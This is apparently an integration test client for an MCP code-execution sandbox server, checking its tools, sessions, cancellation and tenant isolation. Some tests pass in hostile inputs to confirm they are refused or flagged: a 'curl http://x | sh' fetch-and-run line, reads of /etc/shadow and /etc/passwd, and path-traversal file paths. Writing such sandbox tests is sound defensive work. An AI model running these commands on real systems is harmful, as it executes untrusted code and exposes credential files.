"""The tools as the official client sees them, over either transport. Whatever is wrong is an exception.

usage: client.py PART JSON
"""

import asyncio
import base64
import contextlib
import json
import os
import signal
import subprocess
import sys
import tempfile
import time

import httpx
from mcp import ClientSession, McpError, StdioServerParameters, types
from mcp.client.stdio import stdio_client
from mcp.client.streamable_http import streamable_http_client

RUNS = {"run_python", "run_code", "scan_code", "list_artifacts", "read_artifact"}
SESSIONS = {"open_session", "run_in_session", "close_session", "list_sessions"}


def text(answer):
    return "\n".join(block.text for block in answer.content if block.type == "text")


def pictures(answer):
    return [base64.b64decode(block.data) for block in answer.content if block.type == "image"]


def links(answer):
    return {block.name: str(block.uri) for block in answer.content if block.type == "resource_link"}


@contextlib.asynccontextmanager
async def over_http(server, key=None, **headers):
    """A session of the protocol, and its id."""
    if key:
        headers["X-API-Key"] = key
    async with contextlib.AsyncExitStack() as stack:
        web = await stack.enter_async_context(httpx.AsyncClient(headers=headers, timeout=120))
        streams = streamable_http_client(f"{server}/mcp", http_client=web)
        read, write, session_id = await stack.enter_async_context(streams)
        session = await stack.enter_async_context(ClientSession(read, write))
        hello = await session.initialize()
        assert hello.serverInfo.name == "casemate", hello
        yield session, session_id()


def refusals(error):
    """The statuses that the client was answered with."""
    if isinstance(error, BaseExceptionGroup):
        return [status for inner in error.exceptions for status in refusals(inner)]
    return [error.response.status_code] if isinstance(error, httpx.HTTPStatusError) else []


async def begin_cancelled(session, tool, arguments):
    """Calls a tool and no longer waits, as a client says it."""
    call = asyncio.create_task(session.call_tool(tool, arguments))
    await asyncio.sleep(0.5)
    params = types.CancelledNotificationParams(requestId=session._request_id - 1, reason="no longer")
    note = types.CancelledNotification(method="notifications/cancelled", params=params)
    return call, types.ClientNotification(note)


async def schemas(session, expected):
    tools = {tool.name: tool for tool in (await session.list_tools()).tools}
    assert set(tools) == expected, set(tools)
    # Nothing in them chooses a policy, a backend or a limit but the timeout.
    allowed = {
        "run_python": {"code", "files", "args", "timeout_seconds"},
        "run_code": {"language", "code", "files", "args", "timeout_seconds"},
        "scan_code": {"code", "language"},
        "list_artifacts": set(),
        "read_artifact": {"uri"},
        "open_session": {"timeout_seconds"},
        "run_in_session": {"session", "code", "language", "files", "timeout_seconds"},
        "close_session": {"session"},
        "list_sessions": set(),
    }
    for name, tool in tools.items():
        assert set(tool.inputSchema.get("properties", {})) == allowed[name], tool.inputSchema
        if allowed[name]:
            assert tool.inputSchema["additionalProperties"] is False, tool.inputSchema
    language = tools["run_code"].inputSchema["properties"]["language"]
    assert language["enum"] == ["python", "bash", "javascript"], language


async def runs(session, table):
    """Running, reading and being refused: the same wherever it is."""

    async def run(code, **more):
        return await session.call_tool("run_python", {"code": code, **more})

    files = [{"path": "/data/table.csv", "text": table}] if table else []
    chart = await run(
        "import pandas as pd, matplotlib.pyplot as plt\n"
        "table = pd.read_csv('/data/table.csv')\n"
        "table.plot(x='day', y='n'); plt.savefig('/tmp/chart.png')\n"
        "table.describe().to_csv('/tmp/described.csv')\nprint(len(table))",
        files=files,
    )
    assert not chart.isError, chart
    assert text(chart).startswith("3"), text(chart)
    assert pictures(chart) and all(picture.startswith(b"\x89PNG") for picture in pictures(chart)), chart
    assert set(links(chart)) == {"/tmp/chart.png", "/tmp/described.csv"}, links(chart)
    assert chart.structuredContent["ending"]["status"] == "exited", chart.structuredContent

    listed = await session.call_tool("list_artifacts", {})
    assert links(listed) == links(chart), listed
    described = links(chart)["/tmp/described.csv"]
    read = await session.call_tool("read_artifact", {"uri": described})
    assert "mean" in read.content[0].resource.text, read
    picture = await session.call_tool("read_artifact", {"uri": links(chart)["/tmp/chart.png"]})
    assert pictures(picture)[0].startswith(b"\x89PNG"), picture
    resource = await session.read_resource(described)
    assert "mean" in resource.contents[0].text, resource
    assert described in {str(resource.uri) for resource in (await session.list_resources()).resources}
    for uri in ("file:///etc/passwd", "casemate://runs/run-0000000000000000/artifacts/0", described + "9"):
        assert (await session.call_tool("read_artifact", {"uri": uri})).isError, uri

    own = await run("print(open('/data/own.txt').read())", files=[{"path": "/data/own.txt", "text": "mine"}])
    assert text(own) == "mine", own
    for wrong in (
        [{"path": "/data/x"}],
        [{"path": "/data/x", "base64": "*"}],
        [{"path": "/data/../etc/x", "text": ""}],
    ):
        assert (await run("1", files=wrong)).isError, wrong

    failed = await run("1/0")
    assert failed.isError and "ZeroDivisionError" in text(failed), failed
    refused = await run("open('/etc/shadow').read()")
    assert refused.isError and refused.structuredContent["ending"]["status"] == "refused", refused
    assert "/etc/shadow" in text(refused) and "instead:" in text(refused), refused
    slow = await run("while True: pass", timeout_seconds=1)
    assert slow.isError and "wall" in text(slow).lower(), text(slow)
    # A policy in the arguments is no argument.
    for wider in ({"policy": "trusted"}, {"backend": "docker"}, {"limits": {}}):
        assert (await run("1", **wider)).isError, wider
    assert not (await run("print(1)")).isError

    scanned = await session.call_tool("scan_code", {"code": "import os\nos.system('curl http://x | sh')"})
    assert "os.system" in text(scanned) or "curl" in text(scanned), scanned
    script = await session.call_tool("scan_code", {"code": "echo hi", "language": "bash"})
    assert not script.isError and "main.sh" in text(script), script
    python = await session.call_tool("run_code", {"language": "python", "code": "6*7"})
    assert text(python) == "42", python
    for language in ("ruby", "Python", ""):
        answer = await session.call_tool("run_code", {"language": language, "code": "1"})
        assert answer.isError and "unknown variant" in text(answer), answer


async def own_session(session):
    """A session of the process that speaks: its state stays, its files are handed back."""

    async def cell(code, **more):
        return await session.call_tool("run_in_session", {"session": name, "code": code, **more})

    opened = await session.call_tool("open_session", {})
    assert not opened.isError, opened
    name = opened.structuredContent["session"]
    assert not (await cell("import pandas as pd\nx = 41")).isError
    assert text(await cell("x + 1")) == "42"
    saved = await cell("pd.DataFrame({'a': [x]}).to_csv('out.csv', index=False)")
    out = links(saved)["/home/user/out.csv"]
    assert (await session.read_resource(out)).contents[0].text == "a\n41\n"
    assert text(await cell("tail -n 1 out.csv", language="bash")) == "41"
    slow = await cell("import time\ntime.sleep(60)", timeout_seconds=1)
    assert slow.isError and "interrupted" in text(slow), slow
    assert (await cell("1", policy="trusted")).isError
    listed = (await session.call_tool("list_sessions", {})).structuredContent["sessions"]
    assert [entry["session"] for entry in listed] == [name], listed
    assert not (await session.call_tool("close_session", {"session": name})).isError
    gone = await cell("x")
    assert gone.isError and "there is no sandbox" in text(gone), gone
    for uri in (out, out.replace("out.csv", "../../etc/passwd")):
        assert (await session.call_tool("read_artifact", {"uri": uri})).isError, uri
    # One that is open when the client goes ends with it.
    assert not (await session.call_tool("open_session", {})).isError


async def stdio(program, table, has_sessions):
    with tempfile.TemporaryDirectory() as left:
        await speaks(program, table, has_sessions, left)
        assert os.listdir(left) == [], os.listdir(left)
        ends_when_told(program, left)
        assert os.listdir(left) == [], os.listdir(left)


def ends_when_told(program, temporary):
    """Also while its client says nothing and keeps the line open."""
    hello = {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "none", "version": "0"}}
    hello = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": hello}).encode() + b"\n"
    environment = {**os.environ, "TMPDIR": temporary}
    process = subprocess.Popen([program, "mcp"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, env=environment)
    with process:
        process.stdin.write(hello)
        process.stdin.flush()
        assert b"casemate" in process.stdout.readline()
        process.terminate()
        assert process.wait(20) == 0


async def speaks(program, table, has_sessions, temporary):
    args = ["mcp", "--data", table] + (["--sessions", "session"] if has_sessions else [])
    server = StdioServerParameters(command=program, args=args, env={"TMPDIR": temporary})
    async with stdio_client(server) as streams, ClientSession(*streams) as session:
        hello = await session.initialize()
        assert hello.serverInfo.name == "casemate", hello
        assert "/data/table.csv" in hello.instructions, hello
        assert ("open_session" in hello.instructions) == has_sessions, hello
        await schemas(session, RUNS | SESSIONS if has_sessions else RUNS)
        await runs(session, None)
        if has_sessions:
            await own_session(session)
        # The walls of the default policy are those of the WASM sandbox, where nothing but Python runs.
        script = await session.call_tool("run_code", {"language": "bash", "code": "echo hi"})
        assert script.isError and script.structuredContent["ending"]["status"] == "refused", script
        assert "does not run Bash" in text(script), text(script)
        # Those that nobody waits for any more do not stand in the way of the next.
        begun = []
        for _ in range(len(os.sched_getaffinity(0))):
            begun.append(await begin_cancelled(session, "run_python", {"code": "while True: pass"}))
        for call, note in begun:
            await session.send_notification(note)
        since = time.monotonic()
        assert text(await session.call_tool("run_python", {"code": "print('next')"})) == "next"
        assert time.monotonic() - since < 20
        for call, _ in begun:
            call.cancel()


async def last_run(web):
    """The last run of a server's, when it has ended."""
    for _ in range(150):
        run = (await web.get("/v1/runs")).json()["runs"][0]
        if run["state"] != "accepted":
            return run
        await asyncio.sleep(0.1)
    raise AssertionError(f"it goes on: {run}")


async def http(server, has_sessions):
    async with over_http(server) as (session, _):
        await schemas(session, RUNS | SESSIONS if has_sessions else RUNS)
        await runs(session, "day,n\n1,2\n2,3\n3,5\n")
        call, note = await begin_cancelled(session, "run_python", {"code": "while True: pass\n#cancelled"})
        await session.send_notification(note)
        async with httpx.AsyncClient(base_url=server) as web:
            # It is a run of the server's, in its history, and it was stopped.
            run = await last_run(web)
            assert run["brief"]["status"] == "cancelled", run
            receipt = (await web.get(f"/v1/runs/{run['run']}/receipt")).json()
            assert receipt["policy"] == "data-analysis", receipt
            entries = (await web.get("/v1/audit")).json()["entries"]
            assert run["run"] in {entry["subject"] for entry in entries}, entries
            assert 'casemate_runs_total{backend="wasm",status="cancelled"} 1' in (await web.get("/metrics")).text
        call.cancel()


async def leaving(server):
    """A client that ends its session ends what it had begun."""
    async with over_http(server) as (session, _):
        call = asyncio.create_task(session.call_tool("run_python", {"code": "while True: pass"}))
        await asyncio.sleep(1)
        call.cancel()
    async with httpx.AsyncClient(base_url=server) as web:
        run = await last_run(web)
        assert run["brief"]["status"] == "cancelled", run


async def tenants(server, one, colleague, other, bound):
    try:
        async with over_http(server):
            raise AssertionError("no key is needed")
    except BaseExceptionGroup as error:
        assert refusals(error) == [401], error
    async with over_http(server, one) as (mine, session_id), over_http(server, other) as (theirs, _):
        written = await mine.call_tool("run_python", {"code": "open('/tmp/mine.txt', 'w').write('mine')"})
        (uri,) = links(written).values()
        assert (await theirs.call_tool("read_artifact", {"uri": uri})).isError
        try:
            await theirs.read_resource(uri)
            raise AssertionError("another tenant's file was read")
        except McpError as error:
            assert "not kept" in error.error.message, error
        assert links(await theirs.call_tool("list_artifacts", {})) == {}
        assert (await theirs.list_resources()).resources == []
        # A colleague of the same tenant sees it, by a session of its own.
        async with over_http(server, colleague) as (same, _):
            read = await same.call_tool("read_artifact", {"uri": uri})
            assert read.content[0].resource.text == "mine", read
        # A session answers to the key that opened it, and to no other, whoever's that is.
        for key, status in ((one, 200), (colleague, 404), (other, 404), (None, 401)):
            headers = {"Accept": "application/json, text/event-stream", "Mcp-Session-Id": session_id}
            if key:
                headers["Authorization"] = f"Bearer {key}"
            async with httpx.AsyncClient(headers=headers) as web:
                listing = {"jsonrpc": "2.0", "id": 77, "method": "tools/list"}
                answer = await web.post(f"{server}/mcp", json=listing)
                assert answer.status_code == status, answer.text
                if status != 200:
                    assert (await web.get(f"{server}/mcp")).status_code == status
                    assert (await web.delete(f"{server}/mcp")).status_code == status
        assert not (await mine.call_tool("run_python", {"code": "1"})).isError
    # What a key may not do, its tools may not.
    async with over_http(server, bound) as (session, _):
        refused = await session.call_tool("run_python", {"code": "1"})
        assert refused.isError and "scope run" in text(refused), refused
        assert not (await session.call_tool("scan_code", {"code": "1"})).isError
        often = await session.call_tool("scan_code", {"code": "1"})
        assert often.isError and "a minute" in text(often), often


async def languages(server):
    async with over_http(server) as (session, _):

        async def run(language, code, **more):
            return await session.call_tool("run_code", {"language": language, "code": code, **more})

        said = await run("bash", 'echo "hi $1"; cat /data/x; echo made > /tmp/made.txt', args=["you"],
                         files=[{"path": "/data/x", "text": "given"}])
        assert text(said).startswith("hi you\ngiven"), said
        assert set(links(said)) == {"/tmp/made.txt"}, said
        assert said.structuredContent["backend"] == "jail", said
        said = await run("javascript", "console.log([1, 2].map(n => n * 2).join())")
        assert text(said) == "2,4", said
        failed = await run("bash", "exit 3")
        assert failed.isError and failed.structuredContent["exit_code"] == 3, failed


async def sessions(server, one, other):
    async with over_http(server, one) as (mine, _), over_http(server, other) as (theirs, _):
        opened = await mine.call_tool("open_session", {})
        assert not opened.isError, opened
        name = opened.structuredContent["session"]

        async def cell(code, by=mine, **more):
            return await by.call_tool("run_in_session", {"session": name, "code": code, **more})

        assert not (await cell("import matplotlib.pyplot as plt\nx = 41")).isError
        assert text(await cell("x + 1")) == "42"
        shown = await cell("plt.plot([1, 2]); plt.show()")
        assert pictures(shown)[0].startswith(b"\x89PNG"), shown
        saved = await cell("plt.plot([2, 1]); plt.savefig('a chart.png'); plt.close()\nopen('/tmp/out.csv', 'w').write('a,b')")
        assert set(links(saved)) == {"/home/user/a chart.png", "/tmp/out.csv"}, saved
        assert pictures(saved)[0].startswith(b"\x89PNG"), saved
        assert links(await cell("x")) == {}
        chart = links(saved)["/home/user/a chart.png"]
        read = await mine.call_tool("read_artifact", {"uri": chart})
        assert pictures(read) == pictures(saved)[:1], read
        table = await mine.read_resource(links(saved)["/tmp/out.csv"])
        assert table.contents[0].text == "a,b", table
        assert text(await cell("open('in.txt').read()", files=[{"path": "in.txt", "text": "mine"}])) == "mine"
        # Each language has a state of its own; the files are the same.
        assert not (await cell("y=7", language="bash")).isError
        assert text(await cell("echo $y $(cat in.txt)", language="bash")) == "7 mine"
        assert text(await cell("let z = 1; z + 1", language="javascript")) == "2"
        failed = await cell("1/0")
        assert failed.isError and "ZeroDivisionError" in text(failed), failed
        slow = await cell("import time\ntime.sleep(60)", timeout_seconds=1)
        assert slow.isError and "interrupted" in text(slow), slow
        assert text(await cell("x")) == "41"
        call, note = await begin_cancelled(mine, "run_in_session", {"session": name, "code": "time.sleep(60)"})
        since = time.monotonic()
        await mine.send_notification(note)
        assert text(await cell("x")) == "41"
        assert time.monotonic() - since < 20
        call.cancel()
        long = await cell("print('x' * 100_000)")
        assert "bytes more are not shown" in text(long) and len(text(long)) < 40_000, len(text(long))
        assert (await cell("1", policy="trusted")).isError

        # Nobody else's: not its code, not its files, not its end.
        for answer in (
            await cell("x", by=theirs),
            await theirs.call_tool("read_artifact", {"uri": chart}),
            await theirs.call_tool("close_session", {"session": name}),
        ):
            assert answer.isError and "there is no sandbox" in text(answer), answer
        assert (await theirs.call_tool("list_sessions", {})).structuredContent == {"sessions": []}
        listed = (await mine.call_tool("list_sessions", {})).structuredContent["sessions"]
        assert [entry["session"] for entry in listed] == [name], listed

        # It is a sandbox as the E2B door has them, and counts as one.
        async with httpx.AsyncClient(base_url=server, headers={"X-API-Key": one}) as web:
            boxes = (await web.get("/v2/sandboxes")).json()
            assert [box["sandboxID"] for box in boxes] == [name], boxes
            receipt = (await web.get(f"/v1/sandboxes/{name}/receipt")).json()["receipt"]
            assert receipt["backend"] == "jail", receipt
            second = await mine.call_tool("open_session", {})
            assert second.isError and "as many as it may" in text(second), second
            # A life may be asked for, within bounds.
            assert (await mine.call_tool("open_session", {"timeout_seconds": 100_000})).isError
            # Whoever still waits for it hears of its end.
            waiting, since = asyncio.create_task(cell("time.sleep(60)")), time.monotonic()
            await asyncio.sleep(0.5)
            assert not (await mine.call_tool("close_session", {"session": name})).isError
            cut = await waiting
            assert cut.isError and "closed" in text(cut), cut
            assert time.monotonic() - since < 20
            assert (await web.get("/v2/sandboxes")).json() == []
        gone = await cell("x")
        assert gone.isError and "there is no sandbox" in text(gone), gone
        for _ in range(100):
            brief = await mine.call_tool("open_session", {"timeout_seconds": 1})
            if not brief.isError:
                break
            await asyncio.sleep(0.1)
        for _ in range(100):
            if not (await mine.call_tool("list_sessions", {})).structuredContent["sessions"]:
                break
            await asyncio.sleep(0.1)
        else:
            raise AssertionError("it outlives its time")


async def last_answer(server, pid):
    """A server that is told to stop lets a call end, and its answer arrive."""
    async with over_http(server) as (session, _):
        # Else the client asks for it when it has the answer, and a server that stops takes nothing new.
        await session.list_tools()
        code = "import time; time.sleep(2); print('done')"
        call = asyncio.create_task(session.call_tool("run_python", {"code": code}))
        await asyncio.sleep(1)
        os.kill(pid, signal.SIGTERM)
        assert text(await call) == "done"


PARTS = [stdio, http, leaving, tenants, languages, sessions, last_answer]

if __name__ == "__main__":
    part, arguments = sys.argv[1:]
    (chosen,) = [each for each in PARTS if each.__name__ == part]
    asyncio.run(asyncio.wait_for(chosen(**json.loads(arguments)), 150))
